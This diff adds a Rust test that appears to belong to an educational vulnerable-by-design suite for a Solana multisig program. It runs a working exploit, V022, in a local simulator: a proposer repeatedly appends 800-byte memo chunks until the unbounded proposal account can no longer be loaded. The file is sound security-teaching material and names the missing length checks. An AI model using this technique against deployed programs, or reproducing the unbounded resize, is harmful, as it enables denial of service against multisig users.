@@ -0,0 +1,171 @@
+// Exploit: Memo Space Exhaustion (Unbounded Proposal Metadata)
+//
+// Vulnerability: V022 - attach_memo never checks the title or memo length, and
+// resizes the proposal account to fit whatever the proposer appends.
+//
+// Attack: A member with the Proposer role creates a proposal, then appends ~800
+// bytes of memo per transaction (about the most a transaction can carry).
+//
+// Result: The proposal grows far past the 64 + 128 bytes the secure build allows,
+// until the program can no longer load it: every attach_memo deserializes the
+// whole memo onto the 32 KiB heap, so the growth ends in a failed transaction.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{pubkey::Pubkey, signature::Signer};
+
+// Memo bytes appended per transaction, small enough to fit the packet limit
+const CHUNK_LEN: usize = 800;
+// Chunks the exploit appends before measuring
+const ATTACK_CHUNKS: usize = 5;
+// Upper bound on further appends while looking for the load failure
+const MAX_CHUNKS: usize = 64;
+// Title and memo bounds of the secure build
+const SECURE_METADATA_BOUND: usize = 64 + 128;
+
+struct MemoSpaceExhaustion;
+
+struct MemoSpaceExhaustionState {
+    scenario: MultisigScenario,
+    proposal: Pubkey,
+    base_len: usize,
+}
+
+fn memo_chunk(index: usize) -> String {
+    // A different byte per chunk keeps every transaction unique
+    char::from(b'a' + (index % 26) as u8)
+        .to_string()
+        .repeat(CHUNK_LEN)
+}
+
+impl ExploitScenario for MemoSpaceExhaustion {
+    type State = MemoSpaceExhaustionState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V022",
+            title: "Memo Space Exhaustion",
+            severity: Severity::Medium,
+            lesson: "Bound every variable-length field before resizing an account to fit it",
+        }
+    }
+
+    fn setup(&self) -> MemoSpaceExhaustionState {
+        println!("[Scenario] A proposer bloats their proposal with an unbounded memo");
+
+        let mut scenario = setup_multisig_scenario(1, 0);
+        let owners = vec![
+            (scenario.creator.pubkey(), MemberRole::Admin),
+            (scenario.attacker.pubkey(), MemberRole::Proposer),
+        ];
+        create_multisig_with_owners(
+            &mut scenario.svm,
+            &scenario.creator,
+            &scenario.multisig_pda,
+            &scenario.vault_pda,
+            scenario.multisig_id,
+            1,
+            0,
+            &owners,
+        );
+        println!("[Setup] Multisig created, attacker holds the Proposer role");
+
+        let proposal_count = get_multisig_proposal_count(&scenario.svm, &scenario.multisig_pda);
+        let (proposal, _) = derive_proposal_pda(&scenario.multisig_pda, proposal_count);
+        let create_ix = build_create_proposal_ix(
+            &scenario.attacker.pubkey(),
+            &scenario.multisig_pda,
+            &proposal,
+            ProposalTypeDiscriminator::ChangeTimelock,
+            &60u64.to_le_bytes(),
+        );
+        send_tx_expect_success(
+            &mut scenario.svm,
+            create_ix,
+            &scenario.attacker,
+            &[&scenario.attacker],
+        );
+
+        let base_len = scenario.svm.get_account(&proposal).unwrap().data.len();
+        println!("[Setup] Proposal created: {} bytes", base_len);
+
+        MemoSpaceExhaustionState {
+            scenario,
+            proposal,
+            base_len,
+        }
+    }
+
+    fn exploit(&self, state: &mut MemoSpaceExhaustionState) -> TransactionResult {
+        println!(
+            "\n[Attack] Appending {} memo chunks of {} bytes...",
+            ATTACK_CHUNKS, CHUNK_LEN
+        );
+
+        let scenario = &mut state.scenario;
+        for index in 0..ATTACK_CHUNKS - 1 {
+            let ix = build_attach_memo_ix(
+                &scenario.attacker.pubkey(),
+                &scenario.multisig_pda,
+                &state.proposal,
+                None,
+                &memo_chunk(index),
+            );
+            send_tx_expect_success(&mut scenario.svm, ix, &scenario.attacker, &[&scenario.attacker]);
+        }
+
+        let ix = build_attach_memo_ix(
+            &scenario.attacker.pubkey(),
+            &scenario.multisig_pda,
+            &state.proposal,
+            None,
+            &memo_chunk(ATTACK_CHUNKS - 1),
+        );
+        send_ix(&mut scenario.svm, ix, &scenario.attacker)
+    }
+
+    fn assert_impact(&self, state: &mut MemoSpaceExhaustionState) -> u64 {
+        let scenario = &mut state.scenario;
+
+        let grown_len = scenario.svm.get_account(&state.proposal).unwrap().data.len();
+        assert_eq!(grown_len, state.base_len + ATTACK_CHUNKS * CHUNK_LEN);
+        assert!(grown_len > state.base_len + SECURE_METADATA_BOUND);
+        println!(
+            "[VULNERABLE] Proposal grew to {} bytes (secure bound: {})",
+            grown_len,
+            state.base_len + SECURE_METADATA_BOUND
+        );
+
+        println!("\n[Attack] Appending until the program can no longer load the proposal...");
+        let failure = (ATTACK_CHUNKS..MAX_CHUNKS).find_map(|index| {
+            let ix = build_attach_memo_ix(
+                &scenario.attacker.pubkey(),
+                &scenario.multisig_pda,
+                &state.proposal,
+                None,
+                &memo_chunk(index),
+            );
+            send_ix(&mut scenario.svm, ix, &scenario.attacker).err()
+        });
+        let failure = failure.expect("Unbounded memo should eventually exhaust the program");
+
+        let final_len = scenario.svm.get_account(&state.proposal).unwrap().data.len();
+        println!("[EXPLOIT SUCCESS] Proposal stuck at {} bytes: {:?}", final_len, failure.err);
+        println!("[Analysis] Every instruction loading this proposal pays for the whole memo");
+
+        println!("\n[Analysis] The vulnerable code is missing these checks:");
+        println!("           require!(title.len() <= MAX_PROPOSAL_TITLE_LEN, MultisigError::TitleTooLong);");
+        println!("           require!(memo_len <= MAX_PROPOSAL_MEMO_LEN, MultisigError::MemoTooLong);");
+
+        // The proposer pays the rent; no funds are taken from the multisig
+        0
+    }
+}
+
+#[test]
+fn test_exploit_memo_space_exhaustion() {
+    run_exploit(&MemoSpaceExhaustion);
+}